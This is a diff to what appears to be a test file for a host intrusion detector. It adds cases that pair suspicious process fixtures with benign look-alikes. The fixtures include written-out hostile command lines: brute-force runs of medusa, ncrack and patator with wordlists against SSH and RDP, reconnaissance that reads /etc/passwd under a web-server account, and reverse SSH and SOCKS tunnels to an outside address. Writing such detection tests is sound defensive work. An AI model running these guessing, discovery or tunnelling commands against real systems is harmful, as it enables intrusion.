@@ -158,6 +158,49 @@ CASES: dict[str, Case] = {
         "user:*", "high",
         [lambda: [*learned(), *persisting(3, users=[*BASE_USERS[:2], {**BASE_USERS[2], "groups": ["alice", "sudo", "video"]}])]],
     ),
+    "local_daemon_outbound": (
+        # a second systemd-logind from another directory, phoning home on a web port
+        [one(proc("systemd-logind", "root", pid=1101, exe="/usr/libexec/systemd-logind"),
+             connections=[conn("systemd-logind", 1101, "203.0.113.7", 8443)]),
+         one(proc("cron", "root", pid=1102, exe="/usr/sbin/cron"),
+             connections=[conn("cron", 1102, "198.51.100.4", 443)])],
+        "process:*", "high",
+        # resolved and timesyncd talk to the network for a living; sshd's sessions are inbound
+        [one(proc("systemd-resolve", "systemd-resolve", pid=1103),
+             connections=[conn("systemd-resolve", 1103, "1.1.1.1", 53)]),
+         one(proc("systemd-logind", "root", pid=1104),
+             connections=[conn("systemd-logind", 1104, "127.0.0.1", 8443)])],
+    ),
+    "service_account_discovery": (
+        [one(proc("sh", "www-data", pid=1111, ppid=31000, cmdline="sh -c id;uname -a;cat /etc/passwd")),
+         # a login account, but under the web server
+         one(proc("sh", "alice", pid=1112, ppid=NGINX, cmdline="/bin/sh -c whoami && hostname"))],
+        "process:*", "high",
+        # a person at a shell asking the same; one command alone; a cron job of www-data
+        [one(proc("bash", "alice", pid=1113, ppid=400, cmdline="bash -c id; uname -a")),
+         one(proc("sh", "www-data", pid=1114, cmdline="sh -c id -u")),
+         one(proc("sh", "www-data", pid=1115, cmdline="sh -c php -f /var/www/cron.php; date"))],
+    ),
+    "credential_guessing": (
+        [one(proc("medusa", "alice", pid=1121, cmdline="medusa -h 10.8.0.5 -u admin -P pass.txt -M ssh")),
+         one(proc("svc", "alice", pid=1122, cmdline="./svc -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.5")),
+         one(proc("ncrack", "alice", pid=1123, cmdline="ncrack -U users.lst -P pw.lst rdp://10.0.0.7")),
+         one(proc("p", "alice", pid=1124, cmdline="patator ssh_login host=10.0.0.5 user=root password=FILE0 0=words"))],
+        "process:*", "high",
+        # rsync's -P is --progress; sshpass takes one literal password; scp -P is a port
+        [one(proc("rsync", "alice", pid=1125, cmdline="rsync -e ssh -P ./dir backup:/srv/")),
+         one(proc("sshpass", "alice", pid=1126, cmdline="sshpass -p hunter2 ssh deploy@10.0.0.5")),
+         one(proc("scp", "alice", pid=1127, cmdline="scp -P 2222 notes.txt host:/tmp/"))],
+    ),
+    "tunnel_by_arguments": (
+        [one(proc("sshd-agent", "root", pid=1131, cmdline="sshd-agent client 203.0.113.7:443 R:socks")),
+         one(proc("upd", "www-data", pid=1132, cmdline="/var/www/upd client 203.0.113.7:8000 R:2222:127.0.0.1:22")),
+         one(proc("ssh", "root", pid=1133, cmdline="ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 t@203.0.113.7"))],
+        "process:*", "high",
+        # a local forward to reach a database; chisel's server side on the tunnel host
+        [one(proc("ssh", "alice", pid=1134, cmdline="ssh -N -L 5432:localhost:5432 db.lan")),
+         one(proc("ssh", "alice", pid=1135, cmdline="ssh -n build.lan make test"))],
+    ),
     "defence_daemon_stopped": (
         [lambda: [snap(0, add_processes=[proc("rsyslogd", pid=700)]), snap(1)],
          lambda: [snap(0, add_processes=[proc("falcon-sensor", pid=701)]), snap(1)]],
